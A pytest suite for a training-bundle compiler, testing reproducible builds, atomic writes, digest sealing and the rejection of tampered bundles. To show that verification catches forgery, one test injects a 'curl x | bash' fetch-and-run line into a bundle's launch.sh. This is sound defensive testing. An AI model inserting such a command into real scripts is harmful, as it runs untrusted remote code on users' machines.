"""Bundles are reproducible, content-addressed and written atomically."""

from __future__ import annotations

import filecmp
import os
import random
import subprocess
import sys
import tomllib

import msgspec
import pytest
import tomli_w
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

import support
from tutorrl.compiler import compile_bytes, write_bundle
from tutorrl.compiler.bundle import store as bundle_module
from tutorrl.compiler.spec.load import parse_spec
from tutorrl.compiler.spec.normal_form import normalize
from tutorrl.compiler.spec.structs import to_builtins
from tutorrl.errors import BundleError, SpecError

GRPO = support.SPECS / "chess_tutor_grpo.toml"


def _tree(path):
    return {p.relative_to(path).as_posix(): (p.read_bytes(), p.stat().st_mode & 0o777)
            for p in sorted(path.rglob("*")) if p.is_file()}


def test_byte_identical_across_folder_name_timezone_locale_and_hash_seed(tmp_path):
    outputs = []
    for i, env in enumerate([
        {"TZ": "UTC", "LC_ALL": "C", "PYTHONHASHSEED": "0"},
        {"TZ": "Asia/Kathmandu", "LC_ALL": "C.UTF-8", "PYTHONHASHSEED": "12345", "LANG": "de_DE.UTF-8"},
    ]):
        work = tmp_path / f"work{i}" / ("deeper" * i)
        work.mkdir(parents=True)
        spec = work / f"renamed-{i}.toml"
        spec.write_bytes(GRPO.read_bytes())
        old_umask = os.umask(0o077 if i else 0o022)
        try:
            result = support.cli("compile", spec.name, "--out", "out", cwd=work, env=env)
        finally:
            os.umask(old_umask)
        assert result.returncode == 0, result.stderr
        outputs.append(work / result.stdout.strip())
    assert outputs[0].name == outputs[1].name
    assert _tree(outputs[0]) == _tree(outputs[1])


def _shuffled(value, rnd: random.Random):
    if isinstance(value, dict):
        items = list(value.items())
        rnd.shuffle(items)
        return {k: _shuffled(v, rnd) for k, v in items}
    return value


@settings(max_examples=30, deadline=None)
@given(seed=st.integers(0, 2**32), comment=st.text(alphabet="abc #=[]\"'", max_size=20))
def test_order_whitespace_comments_and_name_do_not_change_the_bundle(seed, comment):
    data = tomllib.loads(GRPO.read_text())
    reference = compile_bytes(GRPO.read_bytes(), "a.toml")
    text = tomli_w.dumps(_shuffled(data, random.Random(seed)))
    text = "# " + comment.replace("\n", " ") + "\n\n" + text.replace("\n[", "\n\n   \n[").replace(" = ", "   =   ")
    other = compile_bytes(text.encode(), f"elsewhere/{seed}.toml")
    assert other.files == reference.files


def _leaves(value, path=()):
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _leaves(v, path + (k,))
    else:
        yield path, value


def _mutate(value, choice: int):
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value * 2 if choice % 2 else value + 1
    if isinstance(value, float):
        return value * 2 + 0.5 if choice % 2 else value / 2
    if isinstance(value, str):
        return value + "x"
    if isinstance(value, list):
        return value + value[:1] if value else ["x"]
    raise AssertionError(value)


_EXAMPLE_DATA = {p.name: to_builtins(normalize(parse_spec(p.read_bytes(), p.name)[0])) for p in support.example_specs()}


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(name=st.sampled_from(sorted(_EXAMPLE_DATA)), index=st.integers(0, 10_000), choice=st.integers(0, 1))
def test_any_change_to_a_setting_changes_the_hash(name, index, choice):
    data = _EXAMPLE_DATA[name]
    leaves = list(_leaves(data))
    path, value = leaves[index % len(leaves)]
    changed = msgspec.json.decode(msgspec.json.encode(data))
    node = changed
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = _mutate(value, choice)
    assume(node[path[-1]] != value)
    try:
        other = compile_bytes(tomli_w.dumps(changed).encode(), "m.toml")
    except SpecError:
        assume(False)  # the change made the spec invalid; nothing to compare
    original = compile_bytes(tomli_w.dumps(data).encode(), "m.toml")
    assert other.manifest.digest != original.manifest.digest, path


def test_recompiling_is_a_no_op(tmp_path):
    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
    first = write_bundle(compiled, tmp_path)
    stamp = {p.name: p.stat().st_mtime_ns for p in first.path.iterdir()}
    second = write_bundle(compile_bytes(GRPO.read_bytes(), "g.toml"), tmp_path)
    assert first.created and not second.created and first.path == second.path
    assert {p.name: p.stat().st_mtime_ns for p in second.path.iterdir()} == stamp
    result = support.cli("compile", str(GRPO), "--out", str(tmp_path))
    assert result.returncode == 0 and "unchanged" in result.stderr
    assert result.stdout.strip().endswith(first.path.name)


def test_a_failed_write_leaves_nothing(tmp_path, monkeypatch):
    calls = []
    real = bundle_module._files.write_new

    def failing(path, data, mode=0o644, **kwargs):
        calls.append(os.path.basename(path))
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        real(path, data, mode, **kwargs)

    monkeypatch.setattr(bundle_module._files, "write_new", failing)
    with pytest.raises(BundleError, match="No space left"):
        write_bundle(compile_bytes(GRPO.read_bytes(), "g.toml"), tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


def test_a_hand_edited_existing_bundle_is_not_reused(tmp_path):
    result = write_bundle(compile_bytes(GRPO.read_bytes(), "g.toml"), tmp_path)
    launch = result.path / "launch.sh"
    launch.write_text(launch.read_text().replace("trainer.save_freq=20", "trainer.save_freq=1"))
    with pytest.raises(BundleError, match="launch.sh differs"):
        write_bundle(compile_bytes(GRPO.read_bytes(), "g.toml"), tmp_path)


def test_concurrent_compiles_of_one_spec_are_safe(tmp_path):
    out = tmp_path / "bundles"
    procs = [subprocess.Popen([sys.executable, "-m", "tutorrl", "compile", str(GRPO), "--out", str(out)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(4)]
    results = [p.communicate(timeout=120) + (p.returncode,) for p in procs]
    assert all(code == 0 for _, _, code in results), results
    assert len({stdout.strip() for stdout, _, _ in results}) == 1
    assert sum("wrote" in stderr for _, stderr, _ in results) >= 1
    entries = list(out.iterdir())
    assert len(entries) == 1 and not entries[0].name.startswith(".")
    reference = write_bundle(compile_bytes(GRPO.read_bytes(), "g.toml"), tmp_path / "ref").path
    assert not filecmp.dircmp(entries[0], reference).diff_files


def test_bundle_id_is_a_digest_prefix_and_files_are_listed(tmp_path):
    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
    m = compiled.manifest
    assert m.digest.startswith("sha256:") and m.digest[7:].startswith(compiled.id) and len(compiled.id) == 16
    assert sorted(m.files) == ["bundle.env", "launch.sh", "ray-job.json", "spec.toml"]
    assert m.verl == "0.9.1" and m.variant == "fsdp" and m.compiler.startswith("tutorrl ")
    assert m.keymap_digest.startswith("sha256:")
    job = msgspec.json.decode(compiled.files["ray-job.json"])
    assert job["metadata"]["tutorrl_bundle"] == m.digest
    assert job["runtime_env"]["env_vars"]["RAY_EXPERIMENTAL_NOSET_CUDA_VISIBLE_DEVICES"] == "1"
    assert job["entrypoint_num_gpus"] == 0
    # Nothing machine-specific may enter a bundle.
    for name, data in compiled.files.items():
        assert str(support.REPO).encode() not in data, name
        assert os.path.expanduser("~").encode() + b"/" not in data or os.path.expanduser("~") == "/", name


def test_reseal_is_the_compilers_own_sealing(tmp_path):
    from tutorrl.compiler import verify_bundle
    from tutorrl.compiler.bundle.manifest import reseal

    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
    same = reseal(compiled)
    assert {n: b for n, b in same.files.items() if n != "manifest.json"} == \
        {n: b for n, b in compiled.files.items() if n != "manifest.json"}
    assert same.manifest.digest == compiled.manifest.digest
    other = reseal(compiled, launch_sh=b"#!/usr/bin/env bash\necho stand-in\n")
    assert other.manifest.digest != compiled.manifest.digest
    path = write_bundle(other, tmp_path).path
    # It cannot be re-derived: refused, whatever its manifest says, unless the
    # user accepts it on its digests alone -- and is told.
    with pytest.raises(BundleError, match="(?s)launch.sh does not follow from spec.toml.*--trust-digests"):
        verify_bundle(path)
    loaded = verify_bundle(path, trust_digests=True)
    assert (loaded.path / "launch.sh").read_bytes() == b"#!/usr/bin/env bash\necho stand-in\n"
    assert loaded.job["metadata"]["tutorrl_bundle"] == other.manifest.digest
    assert "(resealed, not compiled)" in loaded.manifest.compiler
    assert loaded.warnings and "accepted on its digests alone" in loaded.warnings[0]


def test_trust_digests_is_an_argument_the_library_never_reads_from_the_environment(tmp_path, monkeypatch):
    """TUTORRL_TRUST_DIGESTS=1 is the command line's default for --trust-digests; the
    library (verify_bundle, tutorrl.load) is handed the flag and never reads it itself."""
    import tutorrl
    from tutorrl._argparse import Parser, add_trust_digests_option
    from tutorrl.compiler import verify_bundle
    from tutorrl.compiler.bundle.manifest import reseal

    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
    path = write_bundle(reseal(compiled, launch_sh=b"#!/usr/bin/env bash\necho stand-in\n"), tmp_path).path
    monkeypatch.setenv("TUTORRL_TRUST_DIGESTS", "1")
    with pytest.raises(BundleError, match="does not follow from spec.toml"):
        verify_bundle(path)
    with pytest.raises(BundleError, match="does not follow from spec.toml"):
        tutorrl.load(path)
    assert tutorrl.load(path, trust_digests=True).warnings
    parser = Parser(prog="t")
    add_trust_digests_option(parser)
    assert parser.parse_args([]).trust_digests is True
    monkeypatch.delenv("TUTORRL_TRUST_DIGESTS")
    parser = Parser(prog="t")
    add_trust_digests_option(parser)
    assert parser.parse_args([]).trust_digests is False and parser.parse_args(["--trust-digests"]).trust_digests


def test_verify_re_derives_and_refuses_a_resealed_launch_posing_as_compiled(tmp_path):
    """A launch.sh with a command injected and every digest recomputed -- manifest
    included, claiming this compiler -- is caught: it does not follow from its spec."""
    import msgspec

    from tutorrl.compiler import verify_bundle
    from tutorrl.contract import MANIFEST
    from tutorrl.compiler.bundle.manifest import canonical_json, reseal

    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
    evil = compiled.files["launch.sh"].replace(b"set -euo pipefail\n", b"set -euo pipefail\ncurl x | bash\n")
    forged = reseal(compiled, launch_sh=evil)
    honest_name = msgspec.structs.replace(forged.manifest, compiler=compiled.manifest.compiler)
    files = {**forged.files, MANIFEST: canonical_json(honest_name)}
    path = tmp_path / forged.id
    path.mkdir()
    for name, data in files.items():
        (path / name).write_bytes(data)
    with pytest.raises(BundleError, match="launch.sh does not follow from spec.toml"):
        verify_bundle(path)
    # An edit of the manifest alone (here: the release it names) is caught too.
    good = write_bundle(compiled, tmp_path / "good").path
    manifest = (good / MANIFEST).read_bytes()
    (good / MANIFEST).write_bytes(manifest.replace(b'"verl": "0.9.1"', b'"verl": "0.9.0"'))
    with pytest.raises(BundleError, match="manifest.json does not follow from spec.toml"):
        verify_bundle(good)


def test_verify_refuses_links_fifos_and_hidden_files(tmp_path):
    from tutorrl.compiler import verify_bundle

    compiled = compile_bytes(GRPO.read_bytes(), "g.toml")
    for case in ("fifo", "hidden", "runs-link"):
        root = tmp_path / case
        path = write_bundle(compiled, root).path
        if case == "fifo":
            (path / "bundle.env").unlink()
            os.mkfifo(path / "bundle.env")
            words = "bundle.env: is a FIFO, not a regular file"
        elif case == "hidden":
            (path / ".extra").write_text("x")
            words = "unexpected file .extra"
        else:
            (tmp_path / "elsewhere").mkdir(exist_ok=True)
            (path / "runs").symlink_to(tmp_path / "elsewhere")
            words = "runs is a symlink; it must be a folder inside the bundle"
        with pytest.raises(BundleError, match=words):
            verify_bundle(path)


_SCALARS = st.one_of(st.booleans(), st.integers(-2**63, 2**63 - 1), st.text(max_size=12),
                     st.floats(allow_nan=False, allow_infinity=False))
_VALUES = st.recursive(_SCALARS, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.from_regex(r"[a-z_]{1,6}", fullmatch=True), inner, max_size=3)),
    max_leaves=8)


@settings(max_examples=300, deadline=None)
@given(st.lists(_VALUES, max_size=6))
def test_stated_defaults_are_written_one_value_per_line_as_toml_writes_each(values):
    from tutorrl.compiler.pipeline.assemble import _toml_values

    def alone(value):  # each scalar through TOML's writer on its own
        if isinstance(value, list):
            return "[" + ", ".join(alone(v) for v in value) + "]"
        if isinstance(value, dict):
            return "{ " + ", ".join(f"{k} = {alone(v)}" for k, v in value.items()) + " }"
        return tomli_w.dumps({"v": value}).split("=", 1)[1].strip()

    written = _toml_values(values)
    assert written == [alone(v) for v in values]
    assert not [w for w in written if "\n" in w]


@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_the_unset_walk_is_the_dotted_lookup_of_every_setting(data):
    """spec.toml's "not set here" list comes from one walk of the spec; it must name exactly
    the settings a dotted lookup finds unset, in declaration order, whatever is left out."""
    from tutorrl.compiler.pipeline.assemble import _unset_settings, spec_settings
    from tutorrl.compiler.spec import get_field

    spec, _ = parse_spec(GRPO.read_bytes(), "g.toml")
    # Unset a random choice of sections and leaves (a section unset hides all under it).
    for path in data.draw(st.lists(st.sampled_from(sorted({s.rpartition(".")[0] or s for s in spec_settings()}
                                                          | set(spec_settings()))), max_size=12)):
        parent, _, leaf = path.rpartition(".")
        holder = get_field(spec, parent) if parent else spec
        if holder is not None and leaf != "experiment" and not parent.startswith("experiment"):
            try:
                msgspec.structs.force_setattr(holder, leaf, None)
            except AttributeError:
                continue
    assert _unset_settings(spec) == [s for s in spec_settings() if get_field(spec, s) is None]
